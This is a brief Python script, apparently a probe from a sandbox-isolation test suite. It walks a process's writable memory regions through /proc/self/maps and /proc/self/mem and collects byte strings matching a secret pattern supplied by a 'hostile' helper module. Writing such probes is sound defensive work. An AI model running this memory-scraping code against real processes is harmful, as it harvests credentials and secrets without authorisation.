"""The kernel's own memory is searched for what the process that forked it knew.

Aim: read
"""

import re


def regions():
    """What of the own memory is no file's."""
    for line in hostile.read("/proc/self/maps", 2**24).decode().splitlines():
        span, rights, _, _, _, *name = line.split()
        if rights.startswith("rw") and not (name and name[0].startswith(("/dev", "[v"))):
            start, stop = (int(part, 16) for part in span.split("-"))
            yield start, stop


found = set()
with open("/proc/self/mem", "rb", buffering=0) as memory:
    for start, stop in regions():
        for at in range(start, stop, 2**24):
            if not hostile.busy(15):
                break
            try:
                memory.seek(at)
                data = memory.read(min(2**24, stop - at) + 64)
            except (OSError, ValueError, OverflowError):
                continue
            found.update(re.findall(hostile.pattern.encode(), data))
hostile.show(b" ".join(found), "the kernel's memory")
